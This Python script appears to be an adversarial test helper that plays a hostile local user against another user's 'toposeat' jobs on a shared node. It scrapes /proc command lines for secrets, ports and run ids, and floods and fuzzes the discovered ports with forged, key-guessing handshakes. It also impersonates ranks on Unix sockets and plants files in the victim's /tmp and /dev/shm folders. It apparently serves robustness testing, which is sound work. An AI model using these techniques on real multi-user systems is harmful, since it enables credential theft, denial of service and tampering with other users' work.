"""What a stranger on a node does to jobs of another user, as long as its standard input is open.

A script of the standard library, run by another user. It looks for the ports, sockets, folders and
launch lines of processes of the user that is its argument, and forges, floods, guesses and plants.
Prints what it found and what it achieved.
"""

import json
import os
import re
import resource
import select
import socket
import struct
import sys
from contextlib import suppress
from pathlib import Path

VICTIM = int(sys.argv[1])
HEADER = struct.Struct(">IIQ")
HELLO, WELCOME, BUNDLE, PROOF, PRESENT = 1, 2, 9, 12, 64
BOOT = Path("/proc/sys/kernel/random/boot_id").read_text()[:8]
MOST_IDLE = 1000

found = {name: set() for name in ("ports", "sockets", "secrets", "runs")}
achieved = {"greeted": 0, "written": 0, "told": 0}
idle = []


def look_at_lines():
    """Secrets and names in launch lines, which everybody can read; environments, too."""
    for process in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            if process.stat().st_uid != VICTIM:
                continue
            words = (process / "cmdline").read_bytes().decode(errors="replace")
            found["secrets"] |= set(re.findall(r"\b[0-9a-f]{32,}\b", words))
            # Where home listens; the ports of launchers and of MPI are their own.
            for port, host in re.findall(r"\b(\d{2,5}):\d{1,4}:(\d+\.\d+\.\d+\.\d+)", words):
                found["ports"].add(f"{host}:{port}")
            found["runs"] |= set(re.findall(r"--records\0([0-9a-f]+):", words))
            (process / "environ").read_bytes()
            achieved["told"] += 1


def attack(where):
    """Crowd a port with idle connections, then greet in words that one without the key can have."""
    for _ in range(200):
        with suppress(OSError):
            idle.append(socket.create_connection(where, 0.2))
    guesses = [secret.encode() for secret in found["secrets"]]
    for guess in (*guesses, bytes(32), b"0" * 32):
        with suppress(OSError), socket.create_connection(where, 0.5) as peer:
            peer.sendall(HEADER.pack(HELLO, 2, 32) + guess[:32].ljust(32, b"0"))
            answer = peer.recv(80)
            peer.sendall(HEADER.pack(PROOF, 0, 32) + answer[-32:])  # home's own proof, sent back
            name = b"rank-0-1.tpsrec"
            forged = HEADER.pack(BUNDLE, len(name), len(name) + 4) + name + b"junk"
            peer.sendall(forged)
            answer = peer.recv(16)
            achieved["greeted"] += answer[:4] == struct.pack(">I", WELCOME)
    with suppress(OSError), socket.create_connection(where, 0.5) as peer:
        peer.sendall(b"\xff" * 100_000)
    while len(idle) > MOST_IDLE:
        idle.pop(0).close()


def meet():
    """Speak to the sockets at which ranks of a node meet, and take names like theirs."""
    for line in Path("/proc/net/unix").read_text().splitlines():
        name = line.rpartition(" ")[2]
        if not name.startswith("@toposeat-"):
            continue
        found["sockets"].add(name)
        with suppress(OSError), socket.socket(socket.AF_UNIX) as peer:
            peer.settimeout(0.2)
            peer.connect("\0" + name[1:])
            peer.sendall(HEADER.pack(PRESENT, 0, 4) + b"0 0\n")


def plant():
    """Write into the victim's folders, and take the names of those that come."""
    for place in map(Path, ("/dev/shm", "/tmp")):
        for run in found["runs"]:
            with suppress(OSError):
                (place / f"toposeat-records-{BOOT}-{run}").mkdir(mode=0o777)
        for folder in place.glob("toposeat-[!k]*"):  # kept ones are of no job that runs
            with suppress(OSError):
                if folder.stat().st_uid == VICTIM:
                    (folder / "planted").write_text("x")
                    achieved["written"] += 1


def main():
    """Go on until nobody listens any more."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    known = set()
    print("begun", flush=True)
    while not select.select([sys.stdin], [], [], 0.01)[0]:
        look_at_lines()
        for address in found["ports"] - known:
            known.add(address)
            host, _, port = address.partition(":")
            attack((host, int(port)))
        meet()
        plant()
    for place in ("/dev/shm", "/tmp"):
        for run in found["runs"]:
            with suppress(OSError):
                os.rmdir(f"{place}/toposeat-records-{BOOT}-{run}")  # noqa: PTH106
    print(json.dumps({**{name: sorted(each) for name, each in found.items()}, **achieved}))


main()
